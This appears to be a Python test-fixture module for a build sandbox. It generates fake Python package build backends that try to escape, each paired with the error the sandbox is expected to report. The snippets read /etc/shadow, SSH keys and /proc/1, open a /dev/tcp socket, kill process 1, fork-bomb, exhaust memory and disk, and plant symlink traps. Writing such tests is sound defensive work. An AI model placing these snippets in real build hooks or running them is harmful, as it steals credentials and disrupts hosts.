"""Projects that build what they should, and do something else besides."""

from __future__ import annotations

import io
import tarfile
import textwrap
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from projects import OWN_PYPROJECT

SDIST, WHEEL = "small-1.0.tar.gz", "small-1.0-py3-none-any.whl"

#: What ``loot`` finds shows in the wheel, so that it is identical only where nothing was found.
_BACKEND = """\
import ctypes, glob, json, os, resource, shutil, signal, socket, subprocess, sys, threading, time
import zipfile
from contextlib import suppress

NAME = "small-1.0-py3-none-any.whl"
GIVEN = {given!r}
loot = []

def build(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("small.py"), "same")
        archive.writestr(zipfile.ZipInfo("small-1.0.dist-info/RECORD"), "")
        if loot:
            archive.writestr(zipfile.ZipInfo("loot"), repr(loot))

def answer(text, kind="w"):
    '''Answer in the place of the hook.'''
    path = os.path.join(sys.argv[-1], "output.json")
    with open(path, kind) as file:
        file.write(text)
    os._exit(0)

def get_requires_for_build_wheel(settings=None):
{first}
    return []

def build_wheel(folder, settings=None, metadata=None):
{then}
    build(os.path.join(folder, NAME))
    return NAME
"""


def project(
    then: str = "", *, first: str = "", given: Mapping[str, Any] | None = None
) -> dict[str, str]:
    """The files of a project; ``first`` is done by the hook that is called first.

    ``given`` is what the code finds in GIVEN.
    """
    codes = {"first": _indented(first), "then": _indented(then)}
    files = {"pyproject.toml": OWN_PYPROJECT, "PKG-INFO": ""}
    return files | {"backend.py": _BACKEND.format(given=given or {}, **codes)}


def _indented(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip() or "pass", "    ")


def write_wheel(folder: Path) -> Path:
    """What an honest build gives."""
    path = folder / WHEEL
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("small.py"), "same")
        archive.writestr(zipfile.ZipInfo("small-1.0.dist-info/RECORD"), "")
    return path


def write_sdist(
    folder: Path, files: Mapping[str, str], links: Mapping[str, str] | None = None
) -> Path:
    path = folder / SDIST
    with tarfile.open(path, "w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(f"small-1.0/{name}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(f"small-1.0/{name}")
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return path


# What builds do, by what it is. GIVEN has: host, port, abstract (a server's), files (that none may
# read), folders (that none may write to), socket (a path). Each is named as what it tried.

REACHING: Mapping[str, tuple[str, str]] = {
    "a server on the host": (
        """
        with suppress(OSError):
            loot.append(socket.create_connection(("127.0.0.1", GIVEN["port"]), 2).recv(99))
        """,
        r"127\.0\.0\.1:\d+",
    ),
    "an address far away": (
        "with suppress(OSError): socket.create_connection(('192.0.2.1', 443), 2)",
        r"192\.0\.2\.1:443",
    ),
    "an address of the next protocol": (
        "with suppress(OSError): socket.create_connection(('2001:db8::1', 443), 2)",
        r"2001:db8::1:443",
    ),
    "a name": (
        "with suppress(OSError): loot.append(socket.gethostbyname('localhost.example.org'))",
        r"localhost\.example\.org",
    ),
    "a datagram": (
        """
        with suppress(OSError):
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            made.sendto(b"secret", ("127.0.0.1", GIVEN["port"]))
        """,
        r"127\.0\.0\.1:\d+",
    ),
    "a server, by a program": (
        """
        script = "exec 4<>/dev/tcp/127.0.0.1/%d && cat <&4" % GIVEN["port"]
        done = subprocess.run(["bash", "-c", script], capture_output=True)
        loot.extend(filter(None, [done.stdout]))
        """,
        r"the network \(Tcp:ActiveOpens\)",
    ),
    "a server, with all descriptors closed before": (
        """
        os.closerange(3, 200)
        with suppress(OSError):
            loot.append(socket.create_connection(("127.0.0.1", GIVEN["port"]), 2).recv(99))
        """,
        r"the network \(Tcp:ActiveOpens\)",
    ),
    "an abstract socket": (
        """
        made = socket.socket(socket.AF_UNIX)
        with suppress(OSError):
            made.connect(GIVEN["abstract"])
            loot.append(made.recv(99))
        """,
        r"samebytes-test-\d+",
    ),
    "an agent's socket": (
        """
        for path in (GIVEN["socket"], "/run/docker.sock", "/run/dbus/system_bus_socket"):
            made = socket.socket(socket.AF_UNIX)
            with suppress(OSError):
                made.connect(path)
                loot.append(made.recv(99))
        """,
        r".*/agent\.sock",
    ),
}

READING: Mapping[str, tuple[str, str]] = {
    "secrets of the user": (
        """
        for path in GIVEN["files"]:
            with suppress(OSError):
                loot.append(open(path, "rb").read())
        """,
        r"/\.ssh/id_test",
    ),
    "passwords": (
        "with suppress(OSError): loot.append(open('/etc/shadow').read())",
        r"/etc/shadow",
    ),
    "homes": (
        """
        for path in ("/home", "/run", "/root"):
            with suppress(OSError):
                loot.extend(each for each in os.listdir(path) if each not in GIVEN["seen"])
        """,
        r"/home",
    ),
    "the first process": (
        """
        for name in ("mem", "environ", "fd/3", "root/etc/shadow"):
            with suppress(OSError):
                loot.append(open("/proc/1/" + name, "rb").read(10))
        """,
        r"/proc/1/mem",
    ),
}

WRITING: Mapping[str, tuple[str, str]] = {
    "the host's folders": (
        """
        for place in GIVEN["folders"]:
            path = os.path.join(place, "written-by-a-build")
            with suppress(OSError):
                open(path, "w").close()
                loot.append(path)
            with suppress(OSError):
                os.mkdir(path)
                loot.append(path)
        """,
        r"written-by-a-build",
    ),
    "the machine's settings": (
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd"):
            with suppress(OSError):
                open(path, "a").close()  # which harms nobody where it works
                loot.append(path)
        """,
        r"/proc/sys/kernel/core_pattern",
    ),
    "a device": (
        """
        with suppress(OSError):
            open("/dev/filled", "wb").write(bytes(2**20))
            loot.append("filled")
        """,
        r"/dev/filled",
    ),
}

KILLING: Mapping[str, tuple[str, str]] = {
    "its parent": ("os.kill(os.getppid(), signal.SIGKILL)", r"process 1 \(signal 9\)"),
    "its parent, politely": ("os.kill(1, signal.SIGTERM)", r"process 1 \(signal 15\)"),
    "its parent, as Ctrl-C": ("os.kill(1, signal.SIGINT)", r"process 1 \(signal 2\)"),
    "its parent's life": ("os.kill(1, signal.SIGSTOP)", r"process 1 \(signal 19\)"),
    "all": (
        "with suppress(ProcessLookupError): os.kill(-1, signal.SIGKILL)",
        r"process -1 \(signal 9\)",
    ),
}

LEAVING: Mapping[str, tuple[str, str]] = {
    "a daemon": (
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(3):
                    os.close(number)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.chdir("/")
                os.execve("/usr/bin/env", ["env", "-i", "sleep", "4711"], {})
            os._exit(0)
        """,
        r"sleep",
    ),
    "one that is stopped": (
        """
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
        """,
        r"python",
    ),
    "one that holds the output": (
        "subprocess.Popen(['sleep', '4711'])",
        r"sleep",
    ),
}

# What ends a build: the phase and the message; GIVEN has nothing.

FILLING: Mapping[str, tuple[str, str, str]] = {
    "processes without end": (
        """
        while True:
            with suppress(OSError):
                os.fork()
        """,
        "limit",
        "more than 60 processes and threads|of memory",
    ),
    "threads without end": (
        """
        threading.stack_size(2**16)
        with suppress(RuntimeError):
            while True:
                threading.Thread(target=time.sleep, args=(4711,), daemon=True).start()
        time.sleep(4711)
        """,
        "limit",
        "more than 60 processes and threads",
    ),
    "memory": (
        """
        taken = []
        while True:
            taken.append(b"x" * 2**22)
            time.sleep(0.001)
        """,
        "limit",
        "of memory",
    ),
    "memory, by many": (
        """
        for number in range(20):
            if os.fork() == 0:
                taken = b"x" * (50 * 2**20)
                time.sleep(4711)
        os.wait()
        """,
        "limit",
        "of memory",
    ),
    "one huge file": (
        """
        with open("huge", "wb") as file:
            while True:
                file.write(bytes(2**20))
        """,
        "build",
        "failed to build",
    ),
    "many huge files": (
        """
        for number in range(10**6):
            with open(str(number), "wb") as file:
                file.write(bytes(20 * 2**20))
        """,
        "limit",
        "on disk",
    ),
    "the common places": (
        """
        for number in range(10**6):
            for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["TMPDIR"]):
                with open(os.path.join(folder, str(number)), "wb") as file:
                    file.write(bytes(2**20))
        """,
        "limit",
        "on disk",
    ),
    "the place of its answer": (
        """
        for number in range(10**6):
            with open(os.path.join(sys.argv[-1], str(number)), "wb") as file:
                file.write(bytes(2**20))
        """,
        "limit",
        "on disk",
    ),
    "a million files": (
        """
        for number in range(10**6):
            open(str(number), "w").close()
        time.sleep(4711)
        """,
        "limit",
        "files and folders",
    ),
    "a place too deep to look into": (
        """
        for number in range(5000):
            os.mkdir("deeper")
            os.chdir("deeper")
        with open("hidden", "wb") as file:
            file.write(bytes(2**20))
        time.sleep(4711)
        """,
        "limit",
        "cannot be looked into|files and folders",
    ),
    "the output": (
        """
        while True:
            os.write(1, b"y" * 2**16)
        """,
        "limit",
        "It printed more than",
    ),
    "the time": ("time.sleep(4711)", "timeout", "still running"),
    "the time, and will not be ended": (
        """
        for number in range(1, 65):
            with suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(4711)
        """,
        "timeout",
        "still running",
    ),
    "the time, as it is stopped": (
        "os.kill(os.getpid(), signal.SIGSTOP)",
        "timeout",
        "still running",
    ),
}

ANSWERING: Mapping[str, tuple[str, str]] = {
    "nothing": ("os._exit(0)", "no answer"),
    "with a link": (
        "os.symlink('/proc/kmsg', os.path.join(sys.argv[-1], 'output.json')); os._exit(0)",
        "no answer",
    ),
    "with a pipe": (
        "os.mkfifo(os.path.join(sys.argv[-1], 'output.json')); os._exit(0)",
        "no file, or too large",
    ),
    "with a folder": (
        "os.mkdir(os.path.join(sys.argv[-1], 'output.json')); os._exit(0)",
        "no answer",
    ),
    "with its folder gone": (
        "shutil.rmtree(sys.argv[-1]); os._exit(0)",
        "no answer",
    ),
    "with a link for its folder": (
        "shutil.rmtree(sys.argv[-1]); os.symlink(GIVEN['folders'][0], sys.argv[-1]); os._exit(0)",
        "replaced by a link",
    ),
    "with a folder that is closed": (
        "os.chmod(sys.argv[-1], 0); os._exit(0)",
        "no answer",
    ),
    "with what is no JSON": ("answer('{')", "PEP 517 does not allow|failed in"),
    "with a list": ("answer('[]')", "PEP 517 does not allow|failed in"),
    "with an empty object": ("answer('{}')", "PEP 517 does not allow|failed in"),
    "with no text": ("answer(b'\\xff\\xfe\\x00', 'wb')", "PEP 517 does not allow|failed in"),
    "with a number": ("answer('{\"return_val\": 7}')", "PEP 517 does not allow|failed in"),
    "with a depth": ("answer('[' * 500000)", "PEP 517 does not allow|failed in"),
    "at length": ("answer(' ' * 2**22)", "too large"),
    "with no backend": (
        'answer(\'{"no_backend": true, "traceback": 7, "backend_error": []}\')',
        "not in its build requirements",
    ),
    "with a path outside": ("return '/etc/' + NAME", "no file in the folder"),
    "with a path upward": ("return '../' + NAME", "no file in the folder"),
    "with a name for a terminal": ("return '\\x1b]0;owned\\x07.whl'", "letters"),
    "with a long name": ("return 'x' * 10000 + '.whl'", "letters|is the wheel"),
    "with a name of nothing": ("return NAME", "no file in the folder"),
    "with another's name": ("build(os.path.join(folder, 'x.whl')); return 'x.whl'", "is the wheel"),
    "with a link to a file": (
        "os.symlink(GIVEN['published'], os.path.join(folder, NAME)); return NAME",
        "no file in the folder",
    ),
    "with a link to nothing": (
        "os.symlink('nothing', os.path.join(folder, NAME)); return NAME",
        "no file in the folder",
    ),
    "with a wheel that is a pipe": (
        "os.mkfifo(os.path.join(folder, NAME)); return NAME",
        "no file in the folder",
    ),
    "with a wheel that is a folder": (
        "os.mkdir(os.path.join(folder, NAME)); return NAME",
        "no file in the folder",
    ),
    "with a wheel that is none": (
        "open(os.path.join(folder, NAME), 'w').close(); return NAME",
        "",
    ),
    "with a wheel that is a hole": (
        "os.truncate(os.open(os.path.join(folder, NAME), os.O_CREAT | os.O_WRONLY), 40 * 2**20)\n"
        "return NAME",
        "",
    ),
}

#: By two hooks: what the first one does to the places of the second. Neither gains anything.
SETTING_TRAPS: Mapping[str, tuple[str, str]] = {
    "links for its folders": (
        """
        room = os.path.dirname(os.environ["HOME"])
        for name in ("out", "tmp", "home", "source", "shm", "var-tmp", "passwd", "group"):
            path = os.path.join(room, name)
            with suppress(OSError):
                os.rename(path, path + "-before")
                os.symlink(GIVEN["folders"][0], path)
            with suppress(OSError):
                os.rename(path, os.path.join(room, "tmp", "before"))
                os.symlink(GIVEN["folders"][0], path)
        """,
        """
        for place in ("/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"], os.environ["TMPDIR"]):
            loot.extend(each for each in os.listdir(place) if each == NAME)
            open(os.path.join(place, "written-by-a-build"), "w").close()
        """,
    ),
    "links for places of mounts": (
        """
        for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["TMPDIR"]):
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                with suppress(OSError):
                    os.rename(path, path + "-before")
                for target in ("/oldroot" + GIVEN["folders"][0], GIVEN["folders"][0]):
                    with suppress(OSError):
                        os.symlink(target, path)
        """,
        "",
    ),
    "links for its settings": (
        """
        for name in (".pydistutils.cfg", ".gitconfig", "setup.cfg"):
            os.symlink(GIVEN["files"][0], os.path.join(os.environ["HOME"], name))
            os.symlink(GIVEN["files"][0], os.path.join(os.environ["TMPDIR"], name))
        """,
        "",
    ),
    "objects of another repository": (
        """
        os.makedirs(".git/objects/info")
        with open(".git/objects/info/alternates", "w") as file:
            file.write(os.path.dirname(GIVEN["files"][0]))
        """,
        """
        for path in GIVEN["files"]:
            with suppress(OSError):
                loot.append(open(path, "rb").read())
        """,
    ),
    "closed folders": (
        """
        for name in ("TMPDIR", "HOME"):
            os.makedirs(os.path.join(os.environ[name], "a/b/c"))
            os.chmod(os.path.join(os.environ[name], "a/b"), 0)
            os.chmod(os.path.join(os.environ[name], "a"), 0)
        os.chmod(os.environ["HOME"], 0)
        os.chmod(os.path.join(os.path.dirname(os.environ["HOME"]), "out"), 0)
        """,
        """
        os.makedirs(os.path.join(folder, "a/b/c"))
        os.chmod(os.path.join(folder, "a/b"), 0)
        os.chmod(os.path.join(folder, "a"), 0)
        """,
    ),
    "a tree deeper than a path": (
        """
        here = os.getcwd()
        for number in range(1200):
            os.mkdir("deeper")
            os.chdir("deeper")
        os.chdir(here)
        """,
        "",
    ),
}

#: What the first hook makes of pyproject.toml.
REPLACING: Mapping[str, tuple[str, str]] = {
    "by a pipe": ("os.mkfifo('pyproject.toml')", "no file of the project"),
    "by a link to a file": (
        "os.symlink('/etc/passwd', 'pyproject.toml')",
        "no file of the project",
    ),
    "by a link to a device": (
        "os.symlink('/dev/zero', 'pyproject.toml')",
        "no file of the project",
    ),
    "by a link to itself": (
        "os.symlink('pyproject.toml', 'pyproject.toml')",
        "no file of the proj",
    ),
    "by a folder": ("os.mkdir('pyproject.toml')", "no file of the project"),
    "by a large one": (
        "open('pyproject.toml', 'w').write('#' * 2**21)",
        "more than 1,048,576 bytes",
    ),
    "by a deep one": ("open('pyproject.toml', 'w').write('a=' + '[' * 9999)", "PEP 517|built"),
    "by a wrong one": ("open('pyproject.toml', 'w').write('[[[')", "cannot be built"),
}
